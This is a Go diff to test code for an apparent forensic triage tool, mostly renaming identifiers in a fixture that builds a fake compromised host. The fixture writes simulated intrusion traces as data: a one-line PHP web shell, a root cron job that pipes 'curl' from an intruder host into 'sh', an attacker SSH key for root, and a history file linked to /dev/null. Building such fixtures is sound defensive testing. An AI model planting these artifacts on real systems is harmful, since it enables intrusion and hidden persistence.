@@ -48,7 +48,7 @@ const (
 )
 
 // publicKey is a line of authorized_keys and its fingerprint.
-func publicKey(seed, comment string) (line, print string) {
+func publicKey(seed, comment string) (line, fingerprint string) {
 	blob := append([]byte{0, 0, 0, 11}, "ssh-ed25519\x00\x00\x00\x20"...)
 	sum := sha256.Sum256([]byte(seed))
 	blob = append(blob, sum[:]...)
@@ -94,7 +94,7 @@ func newHost(t *testing.T, now time.Time, seeded bool) *host {
 		auth.WriteString(h.auth(ago, "CRON[99]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)"))
 		access.WriteString(h.request(ago, "198.51.100.7", "GET /index.php HTTP/1.1", 200, 512))
 		if seeded && ago > begin && ago-5*time.Hour <= begin {
-			h.break_(&auth, &access, eve, evePrint)
+			h.breakIn(&auth, &access, eve, evePrint)
 		}
 		auth.WriteString(h.auth(ago-time.Minute, "sshd[811]: Accepted publickey for alice from 10.0.0.5 port 40022 ssh2: ED25519 "+alicePrint))
 		wtmp.WriteString(h.utmp(ago-time.Minute, "alice", "10.0.0.5"))
@@ -129,9 +129,9 @@ func (h *host) wtmp(text string, wiped bool) {
 	h.write("var/log/wtmp", string(out), 3*time.Hour)
 }
 
-// break_ is what the intruder does: a web shell through the upload, a reverse
+// breakIn is what the intruder does: a web shell through the upload, a reverse
 // shell, a job of cron, a key for root, a history that leads to nothing.
-func (h *host) break_(auth, access *strings.Builder, key, print string) {
+func (h *host) breakIn(auth, access *strings.Builder, key, fingerprint string) {
 	access.WriteString(h.request(begin, intruder, "GET /upload.php HTTP/1.1", 200, 300))
 	access.WriteString(h.request(begin-time.Minute, intruder, "POST /upload.php HTTP/1.1", 200, 41))
 	access.WriteString(h.request(begin-2*time.Minute, intruder, "GET /uploads/logo.php?cmd=id HTTP/1.1", 200, 54))
@@ -139,7 +139,7 @@ func (h *host) break_(auth, access *strings.Builder, key, print string) {
 	h.write("var/www/html/uploads/logo.php", "<?php system($_GET['cmd']);\n", begin-time.Minute)
 	h.write("etc/cron.d/sysupd", "*/10 * * * * root curl -fs http://"+intruder+"/u | sh\n", begin-20*time.Minute)
 	h.write("root/.ssh/authorized_keys", key, begin-30*time.Minute)
-	auth.WriteString(h.auth(begin-40*time.Minute, "sshd[999]: Accepted publickey for root from "+intruder+" port 51022 ssh2: ED25519 "+print))
+	auth.WriteString(h.auth(begin-40*time.Minute, "sshd[999]: Accepted publickey for root from "+intruder+" port 51022 ssh2: ED25519 "+fingerprint))
 	if err := os.Symlink("/dev/null", filepath.Join(h.root, "root/.bash_history")); err != nil {
 		h.Fatal(err)
 	}
@@ -293,7 +293,7 @@ func TestTriageOfProcesses(t *testing.T) {
 	if err != nil {
 		t.Skip("/bin/sleep is missing")
 	}
-	if err := os.WriteFile(sleeper, src, 0o755); err != nil { //nolint:gosec // it is to run
+	if err := os.WriteFile(sleeper, src, 0o755); err != nil {
 		t.Fatal(err)
 	}
 	deleted := exec.Command(sleeper, "600")
